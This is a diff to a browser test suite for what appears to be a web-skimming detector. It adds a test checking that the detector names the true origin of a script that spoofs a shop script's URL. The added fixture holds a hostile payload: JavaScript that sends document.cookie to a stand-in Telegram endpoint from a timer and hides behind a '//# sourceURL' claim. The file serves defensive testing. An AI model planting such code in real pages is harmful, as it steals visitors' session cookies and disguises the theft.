@@ -48,6 +48,12 @@ const sourceUrlSpoof = (routes: readonly SpoofRoute[]): string => `(() => {
   }
 })();`;
 
+/** A helper's own script file that claims the shop's script URL at its end, and sends the cookie from a timer. */
+const CLAIMING_FILE = `setTimeout(function () {
+  fetch('${TELEGRAM}/file', { method: 'POST', mode: 'no-cors', body: document.cookie || 'sid=?' });
+}, 40);
+//# sourceURL=${CLAIMED}`;
+
 const go = (tab: Page): Promise<void> => tab.evaluate(() => void ((window as { __go?: boolean }).__go = true));
 
 const page = (src: string): string =>
@@ -90,6 +96,26 @@ describeEachBrowser('attribution through timer chains', (context) => {
       browser: browserName,
     });
     expect(verdict?.finding.actor).toEqual({ type: 'script', url: `https://${HELPER_CDN}/timer-cart.js` });
+  });
+
+  it("names a helper's script file by its own address when it claims a shop script's URL (//# sourceURL)", async ({ task }) => {
+    context.shop.setFixture('/claiming-file.js', CLAIMING_FILE, { host: HELPER_CDN, contentType: 'text/javascript' });
+    context.shop.setFixture('/kz/claiming-file', page(`https://${HELPER_CDN}/claiming-file.js`));
+    const saq = await browser();
+    const { tabId } = await visit(saq, '/kz/claiming-file');
+    const verdict = await maybeVerdict(saq, tabId, 'SAQ-EXF-002', (v) => v.finding.evidence.url === `${TELEGRAM}/file`);
+    recordCase(task, {
+      behaviour: 'exfiltration',
+      case: "cookie → Telegram from a timer, a script file claiming a shop script's URL",
+      malicious: true,
+      flagged: verdict !== null && verdict.finding.actor.type !== 'page',
+      browser: browserName,
+    });
+    // Firefox prints a file's claimed URL in its stacks too, and Saq never sees a file's text to read the claim:
+    // recorded there, not asserted (docs/security.md, open gaps).
+    if (browserName !== 'chromium') return;
+    expect(verdict?.severity).toBe('critical');
+    expect(verdict?.finding.actor).toEqual({ type: 'script', url: `https://${HELPER_CDN}/claiming-file.js` });
   });
 
   // Chromium writes its stacks from V8's call sites, which tell a claimed URL from a script's own: every route.
